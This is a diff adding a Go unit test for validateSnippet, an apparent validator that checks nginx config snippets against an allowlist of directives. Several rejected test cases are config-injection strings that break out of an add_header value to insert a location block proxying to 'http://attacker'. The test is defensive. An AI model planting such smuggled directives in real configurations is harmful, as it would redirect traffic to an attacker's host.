@@ -0,0 +1,43 @@
+package main
+
+import "testing"
+
+func TestValidateSnippet(t *testing.T) {
+	allowed := []string{"add_header", "client_max_body_size", "proxy_read_timeout"}
+	tests := []struct {
+		snippet string
+		want    string
+		valid   bool
+	}{
+		{"client_max_body_size 512m;", "client_max_body_size 512m;", true},
+		{"client_max_body_size 512m;\n  proxy_read_timeout 300;\n", "client_max_body_size 512m; proxy_read_timeout 300;", true},
+		{`add_header X "a { b } # c; d";`, `add_header X "a { b } # c; d";`, true},
+		{`add_header X 'a { b }';`, `add_header X 'a { b }';`, true},
+		{`add_header X "a \" } b";`, `add_header X "a \" } b";`, true},
+		{`add_header X a\{;`, `add_header X a\{;`, true},
+		{`add_header X a\;b;`, `add_header X a\;b;`, true},
+		{`add_header X a\;`, "", false},
+		{`add_header X a\`, "", false},
+		{`add_header X a"; } location /evil { proxy_pass http://attacker; } #";`, "", false},
+		{`add_header X a'; } location /evil { proxy_pass http://attacker; } #';`, "", false},
+		{`add_header X "a"b;`, "", false},
+		{`add_header X "a;`, "", false},
+		{"add_header X a; } location /evil { proxy_pass http://attacker;", "", false},
+		{"add_header X a; # comment", "", false},
+		{"proxy_pass http://attacker;", "", false},
+		{"add_header X a", "", false},
+		{"add_header X a;;", "", false},
+	}
+	for _, test := range tests {
+		got, err := validateSnippet(test.snippet, allowed)
+		if test.valid && err != nil {
+			t.Errorf("validateSnippet(%q) failed: %v", test.snippet, err)
+		}
+		if !test.valid && err == nil {
+			t.Errorf("validateSnippet(%q) = %q, expected an error", test.snippet, got)
+		}
+		if got != test.want {
+			t.Errorf("validateSnippet(%q) = %q, expected %q", test.snippet, got, test.want)
+		}
+	}
+}